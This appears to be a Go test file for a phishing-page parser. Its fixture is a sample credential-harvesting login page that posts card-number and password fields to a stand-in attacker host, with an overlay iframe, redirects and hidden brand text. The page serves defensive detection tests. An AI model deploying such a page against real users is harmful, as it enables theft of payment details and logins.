package webclient

import (
	"strings"
	"testing"
)

const samplePage = `<!DOCTYPE html>
<html>
<head>
<title>Secure Login Portal</title>
<meta name="description" content="Verify Identity to continue">
<meta http-equiv="refresh" content="0;url=http://next-hop.example/">
</head>
<body oncontextmenu="return false">
<form action="http://collector.evil.tk/submit" method="post">
  <input type="text" name="card_number">
  <input type="password" name="pass">
</form>
<a href="#">one</a>
<a href="javascript:void(0)">two</a>
<a href="/real">three</a>
<div style="display:none">kaspi account verification</div>
<iframe src="http://overlay.evil.tk/" width="100%"></iframe>
<script>window.location.replace("http://next.example/");</script>
<style>.x{color:red}</style>
visible body text here
</body>
</html>`

func parseSample(t *testing.T) *Document {
	t.Helper()
	doc, err := ParseHTML("http://victim-site.kz/login", samplePage)
	if err != nil {
		t.Fatalf("ParseHTML: %v", err)
	}
	return doc
}

func TestParseDocumentBasics(t *testing.T) {
	doc := parseSample(t)

	if doc.Title != "secure login portal" {
		t.Errorf("Title = %q", doc.Title)
	}
	if doc.MetaDescription != "verify identity to continue" {
		t.Errorf("MetaDescription = %q", doc.MetaDescription)
	}
	if !strings.Contains(doc.VisibleText, "visible body text here") {
		t.Error("visible text missing body content")
	}
	if strings.Contains(doc.VisibleText, "window.location") {
		t.Error("script text leaked into visible text")
	}
	if strings.Contains(doc.VisibleText, "color:red") {
		t.Error("style text leaked into visible text")
	}
}

func TestParseDocumentStructure(t *testing.T) {
	doc := parseSample(t)

	if len(doc.Forms) != 1 || doc.Forms[0].Action != "http://collector.evil.tk/submit" {
		t.Errorf("Forms = %+v", doc.Forms)
	}
	if len(doc.Inputs) != 2 {
		t.Fatalf("Inputs = %+v", doc.Inputs)
	}
	if doc.Inputs[0].Name != "card_number" || doc.Inputs[1].Type != "password" {
		t.Errorf("Inputs = %+v", doc.Inputs)
	}
	if len(doc.Links) != 3 {
		t.Errorf("Links = %v", doc.Links)
	}
	if len(doc.Iframes) != 1 || !doc.Iframes[0].FullScreen {
		t.Errorf("Iframes = %+v", doc.Iframes)
	}
	if doc.HiddenCount != 1 || !strings.Contains(doc.HiddenText, "kaspi") {
		t.Errorf("HiddenCount = %d, HiddenText = %q", doc.HiddenCount, doc.HiddenText)
	}
	if doc.BodyHandlers["oncontextmenu"] != "return false" {
		t.Errorf("BodyHandlers = %v", doc.BodyHandlers)
	}
	if !strings.Contains(doc.MetaRefresh, "url=") {
		t.Errorf("MetaRefresh = %q", doc.MetaRefresh)
	}
	if !strings.Contains(doc.ScriptText, "window.location.replace") {
		t.Errorf("ScriptText = %q", doc.ScriptText)
	}
}

func TestIsPrivateIP(t *testing.T) {
	tests := []struct {
		ip   string
		want bool
	}{
		{"127.0.0.1", true},
		{"10.0.0.5", true},
		{"192.168.1.1", true},
		{"100.64.0.1", true},
		{"169.254.1.1", true},
		{"8.8.8.8", false},
		{"93.184.216.34", false},
		{"not-an-ip", false},
	}
	for _, tt := range tests {
		if got := IsPrivateIP(tt.ip); got != tt.want {
			t.Errorf("IsPrivateIP(%q) = %v, want %v", tt.ip, got, tt.want)
		}
	}
}
